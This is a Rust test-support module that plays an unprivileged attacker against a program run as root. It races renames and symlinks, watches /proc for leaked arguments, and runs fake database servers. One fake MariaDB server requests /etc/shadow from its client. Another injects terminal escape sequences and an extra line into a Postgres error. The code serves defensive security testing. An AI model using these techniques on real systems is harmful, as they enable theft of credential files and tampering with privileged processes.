//! The attacker: an unprivileged account, and what it does while root runs something.
//!
//! The test program executes itself under the attacker's uid to run [`acts`], with arguments in the
//! environment. The process is killed when its guard is dropped.

use std::env;
use std::fs;
use std::io::{Read as _, Write as _};
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::symlink;
use std::os::unix::net::{UnixListener, UnixStream};
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use rustix::fs::{CWD, Mode, OFlags, RenameFlags, renameat_with};

use super::attack_directory::AttackDirectory;
use crate::support::deadline::{ChildInTime as _, ChildStdoutLines, CommandInTime as _};

/// Uid and gid of the attacker, which belong to no account.
pub const UID: u32 = 4242;

pub const OTHER: u32 = 4343;

const ACT: &str = "WALWISE_ACT";

pub fn attacker_command(program: impl AsRef<Path>) -> Command {
    command_as_uid(UID, program)
}

/// Runs a program as this uid without supplementary groups; the standard library would keep those
/// of root.
pub fn command_as_uid(uid: u32, program: impl AsRef<Path>) -> Command {
    let mut command = Command::new(program.as_ref());
    command
        .uid(uid)
        .gid(uid)
        .current_dir("/")
        .stdin(Stdio::null());
    command
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("LC_ALL", "C");
    command
}

#[derive(Clone, Debug)]
pub enum AttackerAction {
    Exchange(PathBuf, PathBuf),
    /// Waits until a process opens the fifo at the first path, under any name, and then creates the
    /// second file as proof.
    Await(PathBuf, PathBuf),
    /// As soon as the first path exists, moves it to the second and puts a link to the third in its
    /// place; repeats.
    Steal(PathBuf, PathBuf, PathBuf),
    Listen(PathBuf, SocketAnswer),
    /// Searches all command lines for an argument with this prefix, again and again. Creates a
    /// directory with the argument's name in the first path, and writes the command line to the
    /// second.
    Peek(String, PathBuf, PathBuf),
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum SocketAnswer {
    Never,
    Flood,
    /// Acts as a MySQL server that requests /etc/shadow from its client; received bytes go to the
    /// file `SOCKET.got`.
    WantsFile,
    Escapes,
}

impl SocketAnswer {
    pub const ALL: [Self; 4] = [Self::Never, Self::Flood, Self::WantsFile, Self::Escapes];
}

impl AttackerAction {
    fn encode(&self) -> String {
        let path = |path: &Path| path.to_str().unwrap().to_owned();
        let words = match self {
            Self::Exchange(a, b) => vec!["exchange".to_owned(), path(a), path(b)],
            Self::Await(fifo, to) => vec!["await".to_owned(), path(fifo), path(to)],
            Self::Steal(name, to, link) => {
                vec!["steal".to_owned(), path(name), path(to), path(link)]
            }
            Self::Listen(socket, answer) => {
                vec!["listen".to_owned(), path(socket), format!("{answer:?}")]
            }
            Self::Peek(word, place, to) => {
                vec!["peek".to_owned(), word.clone(), path(place), path(to)]
            }
        };
        words.join("\n")
    }

    fn decode(words: &str) -> Self {
        let words: Vec<&str> = words.lines().collect();
        let path = |n: usize| PathBuf::from(words[n]);
        match words[0] {
            "exchange" => Self::Exchange(path(1), path(2)),
            "await" => Self::Await(path(1), path(2)),
            "steal" => Self::Steal(path(1), path(2), path(3)),
            "listen" => {
                let answer = SocketAnswer::ALL
                    .into_iter()
                    .find(|answer| format!("{answer:?}") == words[2]);
                Self::Listen(path(1), answer.unwrap())
            }
            "peek" => Self::Peek(words[1].to_owned(), path(2), path(3)),
            other => panic!("no act {other}"),
        }
    }

    /// Runs as this user until the guard is dropped. Returns after the first visible effect.
    pub fn start_as_uid(&self, ground: &AttackDirectory, uid: u32) -> AttackerProcess {
        let program = ground.join("stranger");
        if !program.exists() {
            // Other users cannot reach the build directory. A separate `cp` makes the copy, because
            // a child of this process could hold the copy open for writing. The kernel would then
            // refuse to execute the copy.
            let copied = Command::new("cp")
                .arg(env::current_exe().unwrap())
                .arg(&program)
                .status_in_time();
            assert!(copied.success());
        }
        let mut command = command_as_uid(uid, &program);
        command
            .args([
                "stranger::run_attacker_action",
                "--exact",
                "--ignored",
                "--nocapture",
            ])
            .env(ACT, self.encode());
        let mut child = command
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let begins =
            ChildStdoutLines::from_child(&mut child).any(|line| line.ends_with(BEGUN.trim_end()));
        assert!(begins, "{self:?}");
        AttackerProcess(child)
    }
}

const BEGUN: &str = "begun\n";

pub struct AttackerProcess(Child);

impl Drop for AttackerProcess {
    fn drop(&mut self) {
        self.0.kill_in_time();
    }
}

#[test]
#[ignore = "needs root: what strangers do while root runs something; started by the attacks"]
fn run_attacker_action() {
    let Ok(words) = env::var(ACT) else { return };
    rustix::process::set_parent_process_death_signal(Some(rustix::process::Signal::KILL)).unwrap();
    let begun = || {
        std::io::stdout()
            .lock()
            .write_all(BEGUN.as_bytes())
            .unwrap();
    };
    match AttackerAction::decode(&words) {
        AttackerAction::Exchange(a, b) => {
            begun();
            loop {
                let _ = renameat_with(CWD, &a, CWD, &b, RenameFlags::EXCHANGE);
            }
        }
        AttackerAction::Await(fifo, to) => {
            let held =
                rustix::fs::open(&fifo, OFlags::PATH | OFlags::CLOEXEC, Mode::empty()).unwrap();
            begun();
            // Opening a fifo for writing returns once a reader has opened it.
            let it = format!("/proc/self/fd/{}", held.as_raw_fd());
            fs::OpenOptions::new().write(true).open(it).unwrap();
            fs::write(to, "opened").unwrap();
        }
        AttackerAction::Steal(name, to, link) => {
            begun();
            loop {
                if fs::rename(&name, &to).is_ok() {
                    let _ = symlink(&link, &name);
                }
                std::thread::yield_now();
            }
        }
        AttackerAction::Listen(socket, answer) => {
            let listener = UnixListener::bind(&socket).unwrap();
            let mode = std::os::unix::fs::PermissionsExt::from_mode(0o777);
            fs::set_permissions(&socket, mode).unwrap();
            begun();
            let mut held = Vec::new();
            for stream in listener.incoming().flatten() {
                fs::write(connection_marker_path(&socket), "").unwrap();
                held.push(stream.try_clone().unwrap());
                let socket = socket.clone();
                std::thread::spawn(move || send_socket_answer(stream, answer, &socket));
            }
        }
        AttackerAction::Peek(word, place, to) => {
            begun();
            create_directories_named_by_command_lines(&word, &place, &to);
        }
    }
}

pub fn connection_marker_path(socket: &Path) -> PathBuf {
    socket.with_extension("heard")
}

fn send_socket_answer(mut stream: UnixStream, answer: SocketAnswer, socket: &Path) {
    match answer {
        SocketAnswer::Never => {}
        SocketAnswer::Flood => {
            let much = [b'D', 0, 0, 0, 200, 7].repeat(10_000);
            while stream.write_all(&much).is_ok() {}
        }
        SocketAnswer::Escapes => {
            let said = "\u{1b}]0;owned\u{7}\u{202e}\nEVIL=1";
            let body = format!("SFATAL\0C28000\0M{said}\0\0");
            let length = u32::try_from(body.len() + 4).unwrap().to_be_bytes();
            let _ = stream.write_all(&[b"E", &length[..], body.as_bytes()].concat());
        }
        SocketAnswer::WantsFile => {
            // Greeting of protocol 10, then OK, then a request for the client's file in answer to
            // its query.
            let greeting = b"\x0a10.11.6-MariaDB\0\x01\0\0\0abcdefgh\0\xff\xf7\x21\x02\0\xff\x81\x15\0\0\0\0\0\0\0\0\0\0abcdefghijkl\0mysql_native_password\0";
            let mut got = Vec::new();
            let mut heard = vec![0; 1 << 16];
            for (number, body) in [
                (0, &greeting[..]),
                (2, b"\0\0\0\x02\0\0\0"),
                (1, b"\xfb/etc/shadow"),
            ] {
                let length = u32::try_from(body.len()).unwrap().to_le_bytes();
                let packet = [&length[..3], &[number], body].concat();
                if stream.write_all(&packet).is_err() {
                    return;
                }
                let count = stream.read(&mut heard).unwrap_or(0);
                got = heard[..count].to_vec();
            }
            let _ = fs::write(format!("{}.got", socket.display()), got);
        }
    }
}

fn create_directories_named_by_command_lines(word: &str, place: &Path, to: &Path) {
    loop {
        for entry in fs::read_dir("/proc").unwrap().flatten() {
            let Ok(text) = fs::read(entry.path().join("cmdline")) else {
                continue;
            };
            let text = String::from_utf8_lossy(&text).into_owned();
            let seen = text.split('\0').find(|argument| argument.starts_with(word));
            if let Some(name) = seen {
                let _ = fs::create_dir(place.join(name));
                let _ = fs::write(to, &text);
            }
        }
    }
}
